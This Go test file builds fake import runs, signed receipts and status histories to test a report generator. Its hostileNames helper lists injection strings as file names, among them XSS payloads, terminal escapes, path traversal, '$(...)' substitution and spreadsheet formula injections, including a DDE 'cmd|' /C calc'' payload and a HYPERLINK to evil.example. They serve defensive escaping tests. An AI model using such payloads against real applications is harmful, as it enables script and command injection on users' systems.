package importreport

import (
	"bytes"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/sledge-io/sledge/importer/entry"
	"github.com/sledge-io/sledge/importer/receipt"
	"github.com/sledge-io/sledge/importer/request"
	"github.com/sledge-io/sledge/importer/status"
	"github.com/sledge-io/sledge/importer/target"
	"github.com/sledge-io/sledge/manifest"
)

var (
	testKey   = ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, 32))
	testScope = manifest.Scope{Job: manifest.ID{1, 2, 3}, Device: manifest.ID{4, 5, 6}, Generation: 1}
	testStart = time.Date(2026, 11, 2, 8, 0, 0, 0, time.UTC)
)

func public() []ed25519.PublicKey {
	return []ed25519.PublicKey{testKey.Public().(ed25519.PublicKey)}
}

// aRun makes a state folder as a run leaves it.
type aRun struct {
	named       string // how the receipts name their run; "" is without the digits of a state folder
	scope       manifest.Scope
	lines       []receipt.Line
	points      []status.Point
	state       request.State
	halt        *request.Halt
	differences []string
	attempt     int
	unfinished  bool
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// line is one entry's line. A path that a manifest cannot hold keeps the key.
func line(outcome entry.Outcome, name string, size int64) receipt.Line {
	sum := sha256.Sum256([]byte(name))
	l := receipt.Line{Outcome: outcome, RecordSalt: make([]byte, 32)}
	record := &manifest.Record{Kind: manifest.KindDir, Path: "p", Mode: 0o755}
	if r := (&manifest.Record{Kind: manifest.KindDir, Path: name, Mode: 0o755}); manifest.CheckPath(name) == nil {
		record = r
	}
	raw, err := record.Encode()
	if err != nil {
		panic(err)
	}
	l.Record = raw[0]
	if outcome == entry.OutcomeNoObject || outcome == entry.OutcomeSkipped {
		return l
	}
	l.Key, l.Size, l.SHA256 = "in/"+name, &size, base64.StdEncoding.EncodeToString(sum[:])
	if outcome == entry.OutcomeStored || outcome == entry.OutcomeAlreadyThere {
		l.Proof, l.ETag, l.Verified = entry.ProofSHA256, fmt.Sprintf(`"%x"`, sum[:16]), testStart.Add(time.Hour)
	}
	return l
}

func failed(code target.Code, name, cause string) receipt.Line {
	l := line(entry.OutcomeFailed, name, 1<<20)
	if code == target.CodeConflict {
		l.Outcome = entry.OutcomeConflict
	}
	l.Error, l.Detail = code, cause
	return l
}

// folder writes the run's files: status, history, and receipts if it has ended.
func (r aRun) folder(t testing.TB) fstest.MapFS {
	t.Helper()
	if r.scope == (manifest.Scope{}) {
		r.scope = testScope
	}
	if r.attempt == 0 {
		r.attempt = 1
	}
	files := fstest.MapFS{}
	s := status.Status{Version: 1, State: r.state, Job: r.scope.Job, Device: r.scope.Device, Generation: 1, Run: "run-1", Attempt: r.attempt,
		Target: "s3://archive/in/", Endpoint: "https://store.example:9000", Profile: "generic", Host: "importer-1", Started: testStart, Halt: r.halt,
		Outcomes: map[entry.Outcome]uint64{}, Proofs: map[entry.Proof]uint64{}, Problems: map[target.Code]uint64{target.CodeThrottled: 40}}
	total := receipt.Total{Version: 1, Critical: []string{}, Job: r.scope.Job, Device: r.scope.Device, Generation: 1, Run: "run-1", ManifestSize: 9,
		ManifestRoot: make([]byte, 32), Label: "checked", Target: s.Target, Endpoint: s.Endpoint, Profile: s.Profile, Probe: "the store refused a wrong SHA-256 on PUT and UploadPart",
		Conditional: true, Outcomes: map[entry.Outcome]uint64{}, Proof: map[entry.Proof]uint64{}, Differences: r.differences, Started: testStart, Finished: testStart.Add(3 * time.Hour), Software: "sledge devel"}
	if r.attempt > 1 {
		total.Run = fmt.Sprintf("run-1.%d", r.attempt)
	}
	if r.named != "" {
		total.Run = r.named
	}
	list, tree := &bytes.Buffer{}, &manifest.Tree{}
	for i, l := range r.lines {
		salt := sha256.Sum256(fmt.Append(nil, "salt", i))
		text, err := json.Marshal(l)
		must(t, err)
		fmt.Fprintf(list, "%x %s\n", salt, text)
		tree.Add(manifest.EncodeReceipt(manifest.Commitment(salt, text)))
		total.Records++
		total.Outcomes[l.Outcome]++
		if _, _, continuation, _ := manifest.PeekRecord(l.Record); continuation != 0 {
			continue
		}
		total.Entries++
		s.Outcomes[l.Outcome]++
		if l.Outcome == entry.OutcomeStored || l.Outcome == entry.OutcomeAlreadyThere {
			s.Proofs[l.Proof]++
			total.Proof[l.Proof]++
			total.Bytes += *l.Size
			s.Progress.Objects++
		}
	}
	bad := total.Outcomes[entry.OutcomeFailed] + total.Outcomes[entry.OutcomeConflict]
	total.Complete = bad == 0 && len(r.differences) == 0
	s.Progress.Entries, s.Progress.Bytes, s.Progress.Retries = total.Entries, total.Bytes, 57
	s.Progress.TotalEntries, s.Progress.TotalBytes = total.Entries, total.Bytes
	history := &bytes.Buffer{}
	for _, p := range r.points {
		b, err := json.Marshal(p)
		must(t, err)
		history.Write(append(b, '\n'))
		s.Updated = p.At
	}
	if r.unfinished {
		s.Progress.TotalEntries, s.Progress.TotalBytes, s.ETASeconds = 3*total.Entries, 3*total.Bytes, 4000
	}
	st, err := json.Marshal(s)
	must(t, err)
	files[status.Name] = &fstest.MapFile{Data: st}
	if len(r.points) > 0 {
		files[status.HistoryName] = &fstest.MapFile{Data: history.Bytes()}
	}
	if r.unfinished {
		return files
	}
	base := attemptFolder(r.attempt)
	checkpoint, err := manifest.SignCheckpoint(receipt.Origin(r.scope, total.Run), total.Records, tree.Root(), testKey)
	must(t, err)
	env, err := manifest.SignStatement(manifest.PredicateReceipt, []manifest.Subject{manifest.SHA256Subject("checkpoint", checkpoint)}, total, testKey)
	must(t, err)
	files[base+"/objects.list"] = &fstest.MapFile{Data: list.Bytes()}
	files[base+"/log/checkpoint"] = &fstest.MapFile{Data: checkpoint}
	files[base+"/total.dsse"] = &fstest.MapFile{Data: env}
	return files
}

// walk makes points ten seconds apart, steps at a time in one state.
type walk struct {
	at  time.Time
	p   status.Point
	all []status.Point
	rng *rand.Rand
}

func newWalk() *walk {
	w := &walk{at: testStart, rng: rand.New(rand.NewPCG(1, 2))}
	return w
}

func (w *walk) run(state request.State, steps int, bytesPerSecond, entriesPerSecond float64) *walk {
	for range steps {
		w.p.At, w.p.State = w.at, state
		w.all = append(w.all, w.p)
		f := 0.8 + 0.4*w.rng.Float64()
		w.p.Bytes += int64(10 * bytesPerSecond * f)
		w.p.Entries += uint64(10 * entriesPerSecond * f)
		w.at = w.at.Add(10 * time.Second)
	}
	return w
}

func (w *walk) end(state request.State) []status.Point {
	w.p.At, w.p.State = w.at, state
	return append(w.all, w.p)
}

// mixedLines are n stored objects of sizes over many powers of four.
func mixedLines(n int) (lines []receipt.Line) {
	rng := rand.New(rand.NewPCG(3, 4))
	for i := range n {
		l := line(entry.OutcomeStored, fmt.Sprintf("projects/%03d/measurement-%06d.dat", i%37, i), int64(1)<<rng.IntN(31)+int64(rng.IntN(500)))
		if i%9 == 0 {
			l.Outcome = entry.OutcomeAlreadyThere
		}
		if i%50 == 0 {
			l.Proof = entry.ProofReadBack
		}
		lines = append(lines, l)
	}
	return append(lines, line(entry.OutcomeNoObject, "projects", 0), line(entry.OutcomeNoObject, "links", 0))
}

// The runs that tests and browsers look at.
func cleanRun() aRun {
	return aRun{lines: mixedLines(800), state: request.StateDone, points: newWalk().run(request.StateRunning, 300, 180e6, 400).end(request.StateDone)}
}

func troubledRun() aRun {
	w := newWalk().run(request.StateRunning, 100, 180e6, 400).run(request.StateHalted, 60, 0, 0).run(request.StateRunning, 80, 170e6, 380)
	w.p.Throttle, w.p.Retries = 900, 1200
	w.run(request.StateRunning, 25, 20e6, 40).run(request.StatePaused, 30, 0, 0).run(request.StateRunning, 60, 170e6, 380)
	w.at = w.at.Add(40 * time.Minute) // killed, and started again
	w.run(request.StateRunning, 90, 190e6, 420)
	r := aRun{lines: mixedLines(500), state: request.StateErrors, points: w.end(request.StateErrors),
		differences: []string{"files: the manifest's totals say 1302, its records 1301"}}
	r.lines = append(r.lines, line(entry.OutcomeSkipped, "var/run/socket", 0))
	for i := range 1100 {
		r.lines = append(r.lines, failed(target.CodeRefused, fmt.Sprintf("legal/case-%04d/a rather long name of a scanned letter, second copy (%d).tiff", i, i), "400 InvalidRequest: the store's own words about this request"))
	}
	r.lines = append(r.lines, failed(target.CodeConflict, "photos/2024/IMG_0001.jpg", "other content: size 1048575"), failed(target.CodeSourceLost, "archive/tape-07.tar", "pack 812: 4 of 11 shards left, 8 are needed"))
	return r
}

func openRun() aRun {
	return aRun{lines: mixedLines(300), state: request.StateHalted, unfinished: true,
		points: newWalk().run(request.StateRunning, 120, 150e6, 300).run(request.StateHalted, 20, 0, 0).end(request.StateHalted),
		halt:   &request.Halt{Code: target.CodeCredentialsRefused, Cause: "403 ExpiredToken: the security token included in the request is expired", Remedy: "renew or correct the access key, secret or session token, then run the same command again", Since: testStart.Add(20 * time.Minute)}}
}

func hostileRun() aRun {
	r := aRun{state: request.StateErrors, points: newWalk().run(request.StateRunning, 30, 1e6, 10).end(request.StateErrors), differences: []string{"<script>alert(1)</script>\u202e"}}
	for i, name := range hostileNames(10000) {
		if i%3 == 0 {
			r.lines = append(r.lines, failed(target.CodeKeyInvalid, name, "the store says: "+name))
			continue
		}
		r.lines = append(r.lines, line(entry.OutcomeStored, name, int64(i)))
	}
	return r
}

// hostileNames are those of the simulator's lives, and some for browsers and
// spreadsheets.
func hostileNames(n int) (names []string) {
	rng := rand.New(rand.NewPCG(11, 12))
	for i := 0; len(names) < n; i++ {
		id := fmt.Sprintf("%05d", i)
		kinds := []string{
			id + "\x00nul", id + "\u202e" + "fdp.exe", id + "\u2066x\u2069", id + "e\u0301", id + "\nsecond line", id + "\r", id + "\ttab",
			id + "\x1b[31m\x1b]0;title\x07", id + "\u009b2J", id + "\xff\xfe", id + "\xed\xa0\x80", id + strings.Repeat("x", 950), id + strings.Repeat("長", 300),
			" " + id, id + "\u00a0", id + "\u200b", id + "\\..\\..\\etc", id + "|pipe?*<>\"", id + "&amp;", "-" + id, "$(" + id + ")", id + "\u2028",
			"</title></style><script>document.title='owned " + id + "'</script>", `"><img src=x onerror=alert(1)>` + id, "' onload='alert(1)" + id, "{{.Job}}" + id,
			"javascript:alert(1)//" + id, "--><svg onload=alert(1)>" + id, "]]>" + id, "=HYPERLINK(\"https://evil.example/" + id + "\")", "+1+cmd|' /C calc'!A0" + id, "@SUM(1)" + id,
			"a;=1+1;" + id, "'=1" + id, "\"quoted" + id, "＝1" + id, "  =1+1" + id, "\t=1" + id, "z" + strings.Repeat("\u0301", 400) + id, id + string(rune(0x1f600+rng.IntN(60))), "ملف" + id,
		}
		names = append(names, kinds[i%len(kinds)])
	}
	return names
}
